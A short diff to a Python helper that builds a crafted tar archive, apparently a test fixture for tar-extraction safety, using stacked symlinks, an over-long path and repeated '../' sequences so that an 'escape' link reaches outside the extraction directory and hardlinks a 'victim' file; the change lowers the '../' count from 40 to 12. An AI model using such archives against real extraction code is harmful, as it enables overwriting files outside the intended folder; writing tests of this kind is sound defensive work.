@@ -54,7 +54,7 @@ def _past_path_max(tar: tarfile.TarFile, outside: str) -> None:
         step += f"{folder}/"
     long = f"{'/'.join('abcdefghijklmnop')}/{'l' * 254}"
     put(tar, long, tarfile.SYMTYPE, "../" * 16)
-    put(tar, "escape", tarfile.SYMTYPE, f"{long}/{'../' * 40}{outside}")
+    put(tar, "escape", tarfile.SYMTYPE, f"{long}/{'../' * 12}{outside}")
     put(tar, "escape/new")
     put(tar, "flag", tarfile.LNKTYPE, "escape/victim")
     put(tar, "flag")
